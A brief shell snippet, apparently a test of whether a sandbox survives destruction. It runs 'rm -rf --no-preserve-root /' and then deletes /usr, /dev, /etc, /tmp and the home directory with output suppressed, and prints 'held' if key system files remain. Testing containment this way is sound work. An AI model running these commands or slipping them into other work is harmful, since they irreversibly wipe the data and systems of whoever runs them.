# ends: exit wall cpu
rm -rf --no-preserve-root / >/dev/null 2>&1
rm -rf /usr /meed /dev /etc /box /tmp "$HOME" >/dev/null 2>&1
[ -x /usr/bin/env ] && [ -e /dev/null ] && [ -e /etc/passwd ] && echo held
